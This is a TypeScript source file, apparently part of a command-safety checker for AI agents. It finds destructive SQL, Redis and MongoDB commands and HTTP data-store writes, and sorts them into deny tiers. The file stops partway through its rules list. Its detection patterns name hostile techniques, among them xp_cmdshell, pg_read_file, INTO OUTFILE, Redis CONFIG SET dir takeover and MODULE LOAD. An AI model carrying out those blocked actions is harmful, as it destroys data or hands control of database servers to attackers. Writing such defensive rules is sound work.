// Built-in rules: db family. Finds the SQL (or Redis / MongoDB commands) a database client is told to run, from
// its options, positional arguments, here-docs, here-strings and literal pipes, and flags statements that drop,
// truncate or wipe data. Statements are read case-insensitively with comments and string literals removed.

import { parseArgs, type ArgSpec } from '../../shell/args.ts';
import { programName, staticValue } from '../../shell/program.ts';
import type { Analysis, SimpleCommand, Word } from '../../shell/types.ts';
import { defineShellRule, type Rule, type RuleContext, type RuleHit } from '../rule.ts';
import { networkTarget, type Endpoint } from './network.ts';

type Kind = 'sql' | 'redis' | 'mongo';

interface DbInput {
  kind: Kind;
  /** Everything the client is told to run, as far as it is known. */
  texts: string[];
  /** False when part of the input is a file, a dynamic word or an unknown pipe (then nothing is allowed). */
  complete: boolean;
  /** mysql treats `#` as a comment; other dialects do not. */
  hashComments: boolean;
  client: string;
}

function value(w: Word | undefined): string | null {
  return w ? staticValue(w) : null;
}

// ---------------------------------------------------------------------------------------------------------
// Where the text comes from

/** The text a command's standard input carries, when it is statically known. */
function stdinText(cmd: SimpleCommand, analysis: Analysis): { text: string | null; known: boolean; present: boolean } {
  const s = cmd.stdin;
  switch (s.kind) {
    case 'heredoc':
      return { text: s.body, known: true, present: true };
    case 'herestring': {
      const v = value(s.word);
      return { text: v ?? s.word.value, known: v !== null, present: true };
    }
    case 'file':
      return { text: null, known: false, present: true };
    case 'pipe': {
      const parts: string[] = [];
      for (const id of s.from) {
        const src = analysis.commands[id];
        const t = src ? printedText(src) : null;
        if (t === null) return { text: parts.join('\n') || null, known: false, present: true };
        parts.push(t);
      }
      return { text: parts.join('\n'), known: true, present: true };
    }
    default:
      return { text: null, known: true, present: false };
  }
}

/** What echo/printf of literals, or cat of a here-doc/here-string, prints; null when unknown. */
function printedText(cmd: SimpleCommand): string | null {
  const name = programName(cmd);
  const vals = cmd.argv.slice(1).map(value);
  if (name === 'echo') {
    const words = vals.filter((v, i) => !(i === 0 && v !== null && /^-[neE]+$/.test(v)));
    return words.some((v) => v === null) ? null : words.join(' ');
  }
  if (name === 'printf') {
    if (vals.length === 0 || vals.some((v) => v === null)) return null;
    return (vals as string[]).join(' ').replace(/\\n/g, '\n');
  }
  if (name === 'cat' && vals.length === 0) {
    if (cmd.stdin.kind === 'heredoc') return cmd.stdin.body;
    if (cmd.stdin.kind === 'herestring') return value(cmd.stdin.word);
  }
  return null;
}

const PSQL_SPEC: ArgSpec = {
  shortWithValue: 'cdfhpUvoLFRPT',
  longWithValue: ['command', 'dbname', 'file', 'host', 'port', 'username', 'set', 'variable', 'output', 'log-file', 'field-separator', 'record-separator', 'pset', 'table-attr'],
  aliases: { command: 'c', file: 'f', list: 'l' },
};
const MYSQL_SPEC: ArgSpec = {
  shortWithValue: 'eDhPSuW',
  longWithValue: ['execute', 'database', 'host', 'port', 'socket', 'user', 'default-character-set', 'init-command', 'defaults-file', 'defaults-extra-file', 'login-path', 'ssl-ca', 'ssl-cert', 'ssl-key', 'protocol', 'delimiter', 'pager', 'tee', 'plugin-dir', 'default-auth'],
  aliases: { execute: 'e' },
};
const SQLITE_SPEC: ArgSpec = {
  singleDashLong: true,
  longWithValue: ['cmd', 'init', 'separator', 'newline', 'nullvalue', 'vfs', 'mmap', 'pagecache', 'heap', 'maxsize', 'c', 's', 'f'],
};
const REDIS_SPEC: ArgSpec = {
  shortWithValue: 'hpsaunridD',
  longWithValue: ['user', 'pass', 'cacert', 'cacertdir', 'cert', 'key', 'sni', 'eval', 'ldb', 'pattern', 'count', 'quoted-pattern', 'memkeys-samples', 'cluster', 'replica', 'rdb', 'functions-rdb', 'hotkeys', 'tls-ciphers', 'tls-ciphersuites', 'user'],
};
const MONGO_SPEC: ArgSpec = {
  shortWithValue: 'upf',
  longWithValue: ['eval', 'host', 'port', 'username', 'password', 'authenticationDatabase', 'authenticationMechanism', 'file', 'tlsCAFile', 'tlsCertificateKeyFile', 'apiVersion', 'awsAccessKeyId', 'awsSecretAccessKey', 'awsSessionToken', 'gssapiServiceName', 'sspiHostnamePrefix'],
};
const CLICKHOUSE_SPEC: ArgSpec = { shortWithValue: 'qhudP', longWithValue: ['query', 'host', 'user', 'password', 'database', 'port', 'format', 'queries-file', 'config-file'] };

const SQL_CLIENTS = ['psql', 'pgcli', 'mysql', 'mariadb', 'mycli', 'sqlite3', 'sqlite', 'litecli', 'duckdb', 'clickhouse-client', 'clickhouse', 'cockroach', 'usql', 'sqlcmd', 'snowsql', 'cqlsh', 'bq'] as const;
const REDIS_CLIENTS = ['redis-cli', 'valkey-cli', 'keydb-cli'] as const;
const MONGO_CLIENTS = ['mongosh', 'mongo'] as const;
const ALL_CLIENTS = [...SQL_CLIENTS, ...REDIS_CLIENTS, ...MONGO_CLIENTS] as const;

const inputCache = new WeakMap<SimpleCommand, DbInput | null>();

/** The statements a client runs, or null when the command is not a database client call. */
function dbInput(cmd: SimpleCommand, analysis: Analysis): DbInput | null {
  if (inputCache.has(cmd)) return inputCache.get(cmd) ?? null;
  const r = readInput(cmd, analysis);
  inputCache.set(cmd, r);
  return r;
}

function readInput(cmd: SimpleCommand, analysis: Analysis): DbInput | null {
  const name = programName(cmd);
  if (name === null) return null;
  const texts: string[] = [];
  let complete = true;
  const add = (w: Word | string | undefined): void => {
    if (w === undefined) return;
    if (typeof w === 'string') {
      texts.push(w);
      return;
    }
    const v = value(w);
    if (v === null) {
      complete = false;
      texts.push(w.value);
    } else texts.push(v);
  };
  const fromFlags = (p: ReturnType<typeof parseArgs>, ...names: string[]): number => {
    let n = 0;
    for (const f of p.flagList) {
      if (!names.includes(f.name) || typeof f.value !== 'string') continue;
      n++;
      texts.push(f.value);
    }
    // A dynamic word may be (part of) the SQL: what it says is not known.
    if (p.dynamic) complete = false;
    return n;
  };
  const stdin = (): void => {
    const s = stdinText(cmd, analysis);
    if (!s.present) return;
    if (s.text !== null) texts.push(s.text);
    if (!s.known) complete = false;
  };
  let kind: Kind = 'sql';
  let hashComments = false;
  const args = cmd.argv.slice(1);

  switch (name) {
    case 'psql':
    case 'pgcli': {
      const p = parseArgs(args, PSQL_SPEC);
      const n = fromFlags(p, 'c');
      if (p.flags.has('f')) complete = false;
      if (p.flags.has('l')) texts.push('\\l');
      if (n === 0 && !p.flags.has('f')) stdin();
      break;
    }
    case 'mysql':
    case 'mariadb':
    case 'mycli': {
      hashComments = true;
      // -pSECRET is a password glued to the flag; it is neither an option cluster nor SQL.
      const filtered = args.filter((w) => !/^-p/.test(w.value) && !w.value.startsWith('--password'));
      const p = parseArgs(filtered, MYSQL_SPEC);
      const n = fromFlags(p, 'e');
      if (n === 0) stdin();
      break;
    }
    case 'sqlite3':
    case 'sqlite':
    case 'litecli':
    case 'duckdb': {
      const p = parseArgs(args, SQLITE_SPEC);
      fromFlags(p, 'cmd', 'c', 's');
      if (p.flags.has('init') || p.flags.has('f')) complete = false;
      for (const w of p.operands.slice(1)) add(w);
      if (p.operands.length <= 1 && !p.flags.has('cmd') && !p.flags.has('c')) stdin();
      break;
    }
    case 'clickhouse':
    case 'clickhouse-client': {
      const rest = name === 'clickhouse' ? args.slice(1) : args;
      if (name === 'clickhouse' && value(args[0]) !== 'client' && value(args[0]) !== 'local') return null;
      const p = parseArgs(rest, CLICKHOUSE_SPEC);
      const n = fromFlags(p, 'q', 'query');
      if (p.flags.has('queries-file')) complete = false;
      if (n === 0) stdin();
      break;
    }
    case 'cockroach': {
      if (value(args[0]) !== 'sql') return null;
      const p = parseArgs(args.slice(1), { shortWithValue: 'edu', longWithValue: ['execute', 'database', 'url', 'user', 'host', 'certs-dir', 'file'], aliases: { execute: 'e' } });
      const n = fromFlags(p, 'e');
      if (p.flags.has('file') || p.flags.has('f')) complete = false;
      if (n === 0) stdin();
      break;
    }
    case 'usql':
    case 'snowsql':
    case 'cqlsh':
    case 'sqlcmd': {
      const p = parseArgs(args, { shortWithValue: name === 'sqlcmd' ? 'QqSUPdiHo' : 'cqefuhpdaw', longWithValue: ['command', 'query', 'execute', 'file', 'username', 'password', 'host', 'port', 'dbname', 'database', 'account', 'warehouse'] });
      const n = fromFlags(p, 'c', 'command', 'q', 'query', 'e', 'execute', 'Q');
      if (p.flags.has('f') || p.flags.has('file') || p.flags.has('i')) complete = false;
      if (n === 0) stdin();
      break;
    }
    case 'bq': {
      const ops = parseArgs(args, { longWithValue: ['project_id', 'location', 'dataset_id', 'format', 'max_rows', 'destination_table', 'parameter'] }).operands;
      if (value(ops[0]) !== 'query') return null;
      for (const w of ops.slice(1)) add(w);
      if (ops.length <= 1) stdin();
      break;
    }
    case 'redis-cli':
    case 'valkey-cli':
    case 'keydb-cli': {
      kind = 'redis';
      const p = parseArgs(args, REDIS_SPEC);
      if (p.flags.has('eval')) complete = false;
      if (p.operands.length > 0) texts.push(p.operands.map((w) => value(w) ?? w.value).join(' '));
      if (p.operands.some((w) => value(w) === null)) complete = false;
      if (p.operands.length === 0) {
        const readFlags = ['scan', 'bigkeys', 'memkeys', 'hotkeys', 'stat', 'latency', 'latency-history', 'latency-dist', 'intrinsic-latency', 'version', 'help'];
        if ([...p.flags.keys()].some((k) => readFlags.includes(k))) texts.push('PING');
        else stdin();
      }
      break;
    }
    case 'mongosh':
    case 'mongo': {
      kind = 'mongo';
      const p = parseArgs(args, MONGO_SPEC);
      fromFlags(p, 'eval');
      if (p.flags.has('f') || p.flags.has('file') || p.operands.some((w) => /\.js$/.test(w.value))) complete = false;
      if (!p.flags.has('eval')) stdin();
      break;
    }
    default:
      return null;
  }
  return { kind, texts, complete, hashComments, client: name };
}

// ---------------------------------------------------------------------------------------------------------
// SQL reading

/** Remove comments and string literals (their content never runs), keeping quoted identifiers. */
export function stripSql(sql: string, hashComments: boolean): string {
  let out = '';
  let i = 0;
  const n = sql.length;
  while (i < n) {
    const c = sql[i]!;
    const d = sql[i + 1];
    if (c === '-' && d === '-') {
      while (i < n && sql[i] !== '\n') i++;
      continue;
    }
    if (c === '#' && hashComments) {
      while (i < n && sql[i] !== '\n') i++;
      continue;
    }
    if (c === '/' && d === '*') {
      const end = sql.indexOf('*/', i + 2);
      i = end < 0 ? n : end + 2;
      out += ' ';
      continue;
    }
    if (c === '\'') {
      i++;
      while (i < n) {
        if (sql[i] === '\\' && hashComments) { i += 2; continue; }
        if (sql[i] === '\'') {
          if (sql[i + 1] === '\'') { i += 2; continue; }
          break;
        }
        i++;
      }
      i++;
      out += "''";
      continue;
    }
    if (c === '$') {
      const m = /^\$([A-Za-z_][A-Za-z0-9_]*)?\$/.exec(sql.slice(i, i + 64));
      if (m) {
        const tag = m[0];
        const end = sql.indexOf(tag, i + tag.length);
        i = end < 0 ? n : end + tag.length;
        out += "''";
        continue;
      }
    }
    out += c;
    i++;
  }
  return out;
}

/** Statements, upper-cased with whitespace collapsed; psql/sqlite meta-commands (a line of their own) are statements too. */
export function sqlStatements(text: string, hashComments: boolean): string[] {
  const out: string[] = [];
  const push = (chunk: string): void => {
    for (const part of chunk.split(';')) {
      const s = part.replace(/\s+/g, ' ').trim().toUpperCase();
      if (s) out.push(s);
    }
  };
  let buf = '';
  for (const line of stripSql(text, hashComments).split('\n')) {
    const t = line.trim();
    if (t.startsWith('\\') || (t.startsWith('.') && /^\.[a-z]/i.test(t))) {
      push(buf);
      buf = '';
      const s = t.replace(/\s+/g, ' ').toUpperCase();
      if (s) out.push(s);
      continue;
    }
    buf += line + '\n';
  }
  push(buf);
  return out;
}

interface SqlFinding {
  rule: string;
  tier: 'hard_deny' | 'soft_deny';
  reason: string;
  statement: string;
}

const READ_START = /^(SELECT|SHOW|DESCRIBE|DESC|EXPLAIN|WITH|VALUES|TABLE|USE|BEGIN|COMMIT|ROLLBACK|START TRANSACTION|SET SEARCH_PATH|\\D|\\L|\\DT|\\DN|\\DI|\\DV|\\DF|\\DU|\\DX|\\C|\\CONNINFO|\\X|\\TIMING|\\Q|\\CONNECT|\.TABLES|\.SCHEMA|\.INDEXES|\.INDICES|\.HEADERS|\.MODE|\.HELP|\.DATABASES|\.DBINFO|\.QUIT|\.EXIT|\.WIDTH|\.NULLVALUE|\.SEPARATOR|\.TIMER|\.ECHO|\.SHOW|\.STATS|\.EQP|\.EXPERT|\.LINT)\b/;
const WRITE_WORDS = /\b(INSERT|UPDATE|DELETE|DROP|ALTER|CREATE|TRUNCATE|GRANT|REVOKE|OUTFILE|DUMPFILE|COPY|CALL|DO|EXEC|EXECUTE|LOAD|REPLACE|MERGE|RENAME|ATTACH|DETACH|VACUUM|REINDEX|PG_READ_FILE|PG_READ_BINARY_FILE|PG_LS_DIR|LO_IMPORT|LO_EXPORT|DBLINK|SET ROLE|SLEEP|BENCHMARK|LOAD_FILE|SYS_EXEC|XP_CMDSHELL|INTO)\b|^PRAGMA\s+\w+\s*=/;

/** What one SQL statement does; null for anything not dangerous. */
function judgeSql(s: string): SqlFinding | null {
  const f = (rule: string, tier: SqlFinding['tier'], reason: string): SqlFinding => ({ rule, tier, reason, statement: s });
  // EXPLAIN ANALYZE runs the statement it explains.
  const st = s.replace(/^EXPLAIN ANALY[SZ]E (\(.*?\) )?(VERBOSE )?/, '');
  if (/^DROP (DATABASE|SCHEMA)\b/.test(st)) return f('db.drop', 'hard_deny', `\`${clip(st)}\` deletes a whole database; never do this from an agent.`);
  if (/^DROP\b/.test(st)) return f('db.drop', 'soft_deny', `\`${clip(st)}\` deletes a table or object and its data; confirm with the user first.`);
  if (/^ALTER TABLE\b.*\bDROP\b/.test(st)) return f('db.drop', 'soft_deny', `\`${clip(st)}\` drops a column or constraint and its data; confirm with the user first.`);
  if (/^TRUNCATE\b/.test(st)) return f('db.truncate', 'soft_deny', `\`${clip(st)}\` deletes every row of the table; confirm with the user first.`);
  if (/^DELETE\b/.test(st) && !/\bWHERE\b/.test(st)) return f('db.delete-all', 'soft_deny', `\`${clip(st)}\` has no WHERE clause and deletes every row; add a WHERE clause.`);
  if (/^UPDATE\b/.test(st) && !/\bWHERE\b/.test(st)) return f('db.delete-all', 'soft_deny', `\`${clip(st)}\` has no WHERE clause and changes every row; add a WHERE clause.`);
  if (/^WITH\b.*\b(DELETE FROM|UPDATE)\b/.test(st) && !/\bWHERE\b/.test(st)) return f('db.delete-all', 'soft_deny', `\`${clip(st)}\` changes rows without a WHERE clause; add one.`);
  if (/^GRANT ALL\b.*\bON \*\.\*/.test(st) || /\bWITH GRANT OPTION\b/.test(st) || /^(ALTER|CREATE) (USER|ROLE)\b.*\bSUPERUSER\b/.test(st) || /^GRANT\b.*\b(SUPER|ADMIN OPTION)\b/.test(st)) {
    return f('db.privilege', 'soft_deny', `\`${clip(st)}\` grants administrator rights on the database server; confirm with the user first.`);
  }
  if (/^\\!/.test(st) || /^\.(SHELL|SYSTEM)\b/.test(st) || /^SYSTEM\b/.test(st) || /\bPROGRAM\b/.test(st) && /^COPY\b/.test(st) || /\bINTO (OUT|DUMP)FILE\b/.test(st)) {
    return f('db.client-shell', 'soft_deny', `\`${clip(st)}\` runs a shell command or writes a file through the database; run it directly so it is checked.`);
  }
  return null;
}

function clip(s: string): string {
  return s.length > 60 ? `${s.slice(0, 57)}...` : s;
}

function isReadSql(s: string): boolean {
  const body = s.replace(/^EXPLAIN ANALY[SZ]E/, 'EXPLAIN');
  if (!READ_START.test(body)) return false;
  return !WRITE_WORDS.test(body);
}

// ---------------------------------------------------------------------------------------------------------
// Redis

const REDIS_READ = new Set(['GET', 'MGET', 'KEYS', 'SCAN', 'SSCAN', 'HSCAN', 'ZSCAN', 'INFO', 'PING', 'TTL', 'PTTL', 'TYPE', 'EXISTS', 'HGET', 'HMGET', 'HGETALL', 'HKEYS', 'HVALS', 'HLEN', 'HEXISTS', 'LRANGE', 'LLEN', 'LINDEX', 'SMEMBERS', 'SCARD', 'SISMEMBER', 'ZRANGE', 'ZRANGEBYSCORE', 'ZREVRANGE', 'ZCARD', 'ZSCORE', 'ZRANK', 'DBSIZE', 'STRLEN', 'GETRANGE', 'XRANGE', 'XREVRANGE', 'XLEN', 'XINFO', 'MEMORY', 'OBJECT', 'SLOWLOG', 'LATENCY', 'TIME', 'COMMAND', 'ECHO', 'LASTSAVE', 'ROLE', 'SELECT', 'AUTH', 'HELLO', 'CLIENT', 'PUBSUB', 'MONITOR', 'SUBSCRIBE', 'PSUBSCRIBE', 'BITCOUNT', 'GETBIT', 'PFCOUNT', 'GEOPOS', 'GEODIST', 'GEOSEARCH', 'RANDOMKEY', 'DUMP', 'QUIT']);

interface RedisFinding {
  rule: string;
  tier: 'hard_deny' | 'soft_deny';
  reason: string;
}

function judgeRedis(line: string): RedisFinding | null {
  const words = line.trim().split(/\s+/).map((w) => w.replace(/^["']|["']$/g, '').toUpperCase());
  const [a, b, c] = words;
  if (a === undefined) return null;
  if (a === 'FLUSHALL' || a === 'FLUSHDB') return { rule: 'db.redis-flush', tier: 'hard_deny', reason: `\`${a}\` deletes every key${a === 'FLUSHALL' ? ' in every database' : ' of the database'}; never do this from an agent.` };
  if (a === 'CONFIG' && b === 'SET' && (c === 'DIR' || c === 'DBFILENAME')) return { rule: 'db.redis-admin', tier: 'hard_deny', reason: '`CONFIG SET dir/dbfilename` makes Redis write files anywhere on the server (a known takeover technique); never do this.' };
  if (a === 'MODULE' && b === 'LOAD') return { rule: 'db.redis-admin', tier: 'hard_deny', reason: '`MODULE LOAD` loads native code into the Redis server; never do this from an agent.' };
  if (a === 'CONFIG' && (b === 'SET' || b === 'REWRITE' || b === 'RESETSTAT')) return { rule: 'db.redis-admin', tier: 'soft_deny', reason: `\`CONFIG ${b}\` changes the server's configuration; confirm with the user first.` };
  if (['SHUTDOWN', 'SLAVEOF', 'REPLICAOF', 'DEBUG', 'FAILOVER', 'MIGRATE', 'SWAPDB'].includes(a) || (a === 'SCRIPT' || a === 'FUNCTION') && b === 'FLUSH' || a === 'CLIENT' && b === 'KILL' || a === 'ACL' && (b === 'SETUSER' || b === 'DELUSER') || a === 'CLUSTER' && (b === 'RESET' || b === 'FLUSHSLOTS' || b === 'FORGET')) {
    return { rule: 'db.redis-admin', tier: 'soft_deny', reason: `\`${words.slice(0, 2).join(' ')}\` administers the Redis server itself; confirm with the user first.` };
  }
  return null;
}

function isReadRedis(line: string): boolean {
  const [a, b] = line.trim().split(/\s+/).map((w) => w.replace(/^["']|["']$/g, '').toUpperCase());
  if (a === undefined) return true;
  if (a === 'CLIENT') return b === 'LIST' || b === 'INFO' || b === 'GETNAME' || b === 'ID';
  if (a === 'CONFIG') return b === 'GET';
  return REDIS_READ.has(a);
}

// ---------------------------------------------------------------------------------------------------------
// MongoDB

/** JavaScript with string literals blanked, so names inside strings do not count. */
function stripJs(js: string): string {
  return js.replace(/\/\/[^\n]*/g, ' ').replace(/\/\*[\s\S]*?\*\//g, ' ').replace(/'(?:\\.|[^'\\])*'|"(?:\\.|[^"\\])*"|`(?:\\.|[^`\\])*`/g, '""');
}

function judgeMongo(js: string): { tier: 'hard_deny' | 'soft_deny'; reason: string } | null {
  const s = stripJs(js);
  if (/\.dropDatabase\s*\(/.test(s) || /\bdropDatabase\s*:/.test(s)) return { tier: 'hard_deny', reason: '`dropDatabase()` deletes the whole database; never do this from an agent.' };
  if (/\.drop\s*\(\s*\)/.test(s) || /\bdrop\s*:\s*""/.test(s)) return { tier: 'soft_deny', reason: '`drop()` deletes the collection and its data; confirm with the user first.' };
  if (/\.(deleteMany|remove)\s*\(\s*(\{\s*\})?\s*[,)]/.test(s)) return { tier: 'soft_deny', reason: 'Deleting with an empty filter removes every document; add a filter.' };
  if (/\.(dropAllUsers|dropUser|dropAllRoles|dropRole|dropIndexes|dropSearchIndex)\s*\(/.test(s)) return { tier: 'soft_deny', reason: 'Dropping users, roles or indexes changes the database for everyone; confirm with the user first.' };
  return null;
}

const MONGO_READ_METHODS = new Set(['find', 'findOne', 'count', 'countDocuments', 'estimatedDocumentCount', 'distinct', 'getCollectionNames', 'getCollectionInfos', 'stats', 'getIndexes', 'version', 'hostInfo', 'serverStatus', 'isMaster', 'hello', 'getName', 'getSiblingDB', 'getCollection', 'limit', 'sort', 'skip', 'pretty', 'toArray', 'explain', 'projection', 'itcount', 'size', 'getMongo', 'getDBNames', 'adminCommand', 'printjson', 'listCollections', 'getUsers', 'getRoles', 'status', 'ping', 'currentOp', 'dataSize', 'totalSize', 'storageSize', 'isCapped', 'latencyStats', 'getShardDistribution']);

function isReadMongo(js: string): boolean {
  const s = stripJs(js).trim();
  if (s === '') return true;
  if (/\b(require|process|load|eval|Function|child_process|fs|runCommand|mapReduce|\$out|\$merge|\$where|\$function|\$accumulator|forEach|map|insert\w*|update\w*|delete\w*|remove|replace\w*|drop\w*|create\w*|rename\w*|bulkWrite|save|aggregate)\b/.test(s)) return false;
  const lines = s.split(/[;\n]/).map((l) => l.trim()).filter(Boolean);
  for (const l of lines) {
    if (/^(show (dbs|databases|collections|tables|users|roles|profile|log)|use \w+|it|exit|quit\(\))$/.test(l)) continue;
    const methods = [...l.matchAll(/\.?\b([A-Za-z_$][\w$]*)\s*\(/g)].map((m) => m[1]!);
    if (methods.some((m) => !MONGO_READ_METHODS.has(m))) return false;
    if (methods.includes('adminCommand') && !/adminCommand\s*\(\s*\{\s*(listDatabases|ping|serverStatus|buildInfo|getParameter|hostInfo|listCommands)\s*:/.test(l)) return false;
  }
  return true;
}

// ---------------------------------------------------------------------------------------------------------
// Putting it together

interface DbFinding {
  rule: string;
  tier: 'hard_deny' | 'soft_deny' | 'allow';
  reason: string;
  subject?: string;
}

const findingCache = new WeakMap<SimpleCommand, DbFinding[]>();

function findings(cmd: SimpleCommand, analysis: Analysis): DbFinding[] {
  const hit = findingCache.get(cmd);
  if (hit) return hit;
  const out: DbFinding[] = [];
  const input = dbInput(cmd, analysis);
  if (input !== null) {
    let allRead = input.complete && input.texts.length > 0;
    for (const text of input.texts) {
      if (input.kind === 'sql') {
        for (const st of sqlStatements(text, input.hashComments)) {
          const f = judgeSql(st);
          if (f) out.push({ rule: f.rule, tier: f.tier, reason: f.reason, subject: clip(st) });
          if (!isReadSql(st)) allRead = false;
        }
      } else if (input.kind === 'redis') {
        for (const line of text.split('\n')) {
          const f = judgeRedis(line);
          if (f) out.push({ rule: f.rule, tier: f.tier, reason: f.reason, subject: line.trim() });
          if (!isReadRedis(line)) allRead = false;
        }
      } else {
        const f = judgeMongo(text);
        if (f) out.push({ rule: 'db.mongo-drop', tier: f.tier, reason: f.reason });
        if (!isReadMongo(text)) allRead = false;
      }
    }
    if (allRead && out.length === 0) out.push({ rule: 'db.read-only', tier: 'allow', reason: `Read-only queries through ${input.client}.` });
  }
  findingCache.set(cmd, out);
  return out;
}

const DESTRUCTIVE_DB = new Set(['db.drop', 'db.truncate', 'db.delete-all', 'db.redis-flush', 'db.mongo-drop']);

/** What a database client or admin tool destroys (a drop, truncate, unfiltered delete, flush), or null (rules/mass.ts). */
export function dbDestruction(cmd: SimpleCommand, analysis: Analysis): string | null {
  for (const f of findings(cmd, analysis)) if (DESTRUCTIVE_DB.has(f.rule)) return f.subject ?? f.rule;
  const admin = adminHit(cmd);
  return admin !== null && DESTRUCTIVE_DB.has(admin.rule) ? (admin.subject ?? admin.rule) : null;
}

function pick(cmd: SimpleCommand, analysis: Analysis, rule: string): RuleHit | null {
  let best: DbFinding | null = null;
  for (const f of findings(cmd, analysis)) {
    if (f.rule !== rule) continue;
    if (best === null || (f.tier === 'hard_deny' && best.tier !== 'hard_deny')) best = f;
  }
  if (best === null) return null;
  const h: RuleHit = { tier: best.tier, reason: best.reason };
  if (best.subject !== undefined) h.subject = best.subject;
  return h;
}

/** Database admin tools whose arguments are the action (`dropdb x`, `mysqladmin drop x`). */
function adminHit(cmd: SimpleCommand): DbFinding | null {
  const name = programName(cmd);
  const ops = parseArgs(cmd, { shortWithValue: 'hpUuPSWOi', longWithValue: ['host', 'port', 'username', 'user', 'password', 'socket', 'maintenance-db'] }).operands.map((w) => value(w) ?? w.value);
  const lops = ops.map((o) => o.toLowerCase());
  switch (name) {
    case 'dropdb':
      return { rule: 'db.drop', tier: 'hard_deny', reason: `\`dropdb ${ops.join(' ')}\` deletes a whole database; never do this from an agent.` };
    case 'pg_dropcluster':
      return { rule: 'db.drop', tier: 'hard_deny', reason: '`pg_dropcluster` deletes a whole PostgreSQL cluster and its data.' };
    case 'dropuser':
      return { rule: 'db.drop', tier: 'soft_deny', reason: '`dropuser` deletes a database role; confirm with the user first.' };
    case 'mysqladmin': {
      if (lops.includes('drop')) return { rule: 'db.drop', tier: 'hard_deny', reason: '`mysqladmin drop` deletes a whole database; never do this from an agent.' };
      if (lops.some((o) => o === 'shutdown' || o === 'kill' || o.startsWith('flush') || o === 'reload' || o === 'refresh' || o === 'password' || o === 'stop-replica' || o === 'stop-slave')) {
        return { rule: 'db.server-admin', tier: 'soft_deny', reason: `\`mysqladmin ${ops.join(' ')}\` administers the database server; confirm with the user first.` };
      }
      if (lops.length > 0 && lops.every((o) => ['status', 'ping', 'version', 'processlist', 'variables', 'extended-status'].includes(o))) return { rule: 'db.read-only', tier: 'allow', reason: 'Reads the database server\'s status.' };
      return null;
    }
    case 'pg_ctl':
    case 'pg_ctlcluster':
      return lops.some((o) => ['stop', 'restart', 'kill', 'promote'].includes(o)) ? { rule: 'db.server-admin', tier: 'soft_deny', reason: `\`${name} ${ops.join(' ')}\` stops or changes the database server; confirm with the user first.` } : null;
    case 'pg_restore':
    case 'mongorestore': {
      const words = cmd.argv.slice(1).map((w) => value(w) ?? w.value);
      if (words.some((w) => w === '--clean' || w === '-c' || w === '--drop' || /^-[a-zA-Z]*c/.test(w) && name === 'pg_restore' && !w.startsWith('--'))) {
        return { rule: 'db.drop', tier: 'soft_deny', reason: `\`${name}\` with --clean/--drop drops existing objects before restoring; confirm with the user first.` };
      }
      return null;
    }
    case 'bq': {
      if (ops[0] !== 'rm') return null;
      const words = cmd.argv.slice(1).map((w) => value(w) ?? w.value);
      return words.some((w) => w === '-r' || w === '--recursive' || /^-[a-z]*r/.test(w))
        ? { rule: 'db.drop', tier: 'hard_deny', reason: '`bq rm -r` deletes a dataset and all its tables; never do this from an agent.' }
        : { rule: 'db.drop', tier: 'soft_deny', reason: '`bq rm` deletes a BigQuery table or dataset; confirm with the user first.' };
    }
    default:
      return null;
  }
}

const ADMIN_TOOLS = ['dropdb', 'pg_dropcluster', 'dropuser', 'mysqladmin', 'pg_ctl', 'pg_ctlcluster', 'pg_restore', 'mongorestore', 'bq'] as const;

function dbRule(id: string, rest: Omit<Parameters<typeof defineShellRule>[0], 'id' | 'match' | 'programs'>, programs: readonly string[] = ALL_CLIENTS): Rule {
  return defineShellRule({
    id,
    programs,
    ...rest,
    match: (cmd, _ctx, analysis) => {
      const name = programName(cmd);
      if (name !== null && (ADMIN_TOOLS as readonly string[]).includes(name)) {
        const a = adminHit(cmd);
        if (a && a.rule === id) return { tier: a.tier, reason: a.reason };
        if (name !== 'bq') return null;
      }
      return pick(cmd, analysis, id);
    },
  });
}

// ---------------------------------------------------------------------------------------------------------
// Data stores driven over HTTP

/** Default ports of data stores whose whole API is HTTP: a write request there is a database write. */
const DATASTORE_PORTS: Readonly<Record<string, string>> = {
  '9200': 'Elasticsearch/OpenSearch', '9201': 'Elasticsearch/OpenSearch', '7700': 'Meilisearch', '8983': 'Solr',
  '5984': 'CouchDB', '8086': 'InfluxDB', '8123': 'ClickHouse', '6333': 'Qdrant', '8108': 'Typesense', '8500': 'Consul',
  '2379': 'etcd', '8529': 'ArangoDB', '7474': 'Neo4j', '8091': 'Couchbase', '9090': 'Prometheus', '8428': 'VictoriaMetrics',
  '8200': 'Vault', '4001': 'etcd',
};
/** Endpoints that take a POST body but only read: searches, queries, counts. */
const READ_ENDPOINT = /(^|\/)(_search|_msearch|_count|_validate|_explain|_mget|_field_caps|_termvectors|_mtermvectors|_rank_eval|_async_search|_pit|search|multi-search|multi_search|query|query_range|query_exemplars|series|labels|_find|_all_docs|scroll|count|recommend|discover)(\/query)?\/?([?#]|$)/i;
const WRITE_REQUEST = new Set(['POST', 'PUT', 'PATCH', 'DELETE', 'DYNAMIC']);

/** The port and path of an endpoint written as a URL or `host:port/path`. */
function portAndPath(e: Endpoint): { port: string | null; path: string } {
  const text = (e.text ?? '').replace(/^[a-z][a-z0-9+.-]*:\/\//i, '');
  const cut = text.search(/[/?#]/);
  const hostPort = cut < 0 ? text : text.slice(0, cut);
  const path = cut < 0 ? '/' : text.slice(cut);
  const m = /:(\d+)$/.exec(hostPort.replace(/^.*@/, ''));
  return { port: m ? m[1]! : null, path };
}

function httpWriteHit(cmd: SimpleCommand, ctx: RuleContext): RuleHit | null {
  const t = networkTarget(cmd, ctx);
  if (!t || t.dryRun) return null;
  const method = t.method ?? (t.uploads.length > 0 ? 'POST' : 'GET');
  if (!WRITE_REQUEST.has(method)) return null;
  for (const e of t.endpoints) {
    const { port, path } = portAndPath(e);
    const store = port === null ? undefined : DATASTORE_PORTS[port];
    if (store === undefined || (method === 'POST' && READ_ENDPOINT.test(path))) continue;
    return {
      subject: `${method} ${e.text ?? ''}`,
      reason: `This sends ${method} ${path} to what is by its port a ${store} server, which changes or deletes stored data like a write through a database client; check the request with the user.`,
    };
  }
  return null;
}

export const rules: Rule[] = [
  // Hard for a whole database or schema (everything gone at once); soft for a table, column or role.
  dbRule('db.drop', {
    tier: 'hard_deny',
    reason: 'DROP deletes database objects and their data; confirm with the user first.',
    examples: {
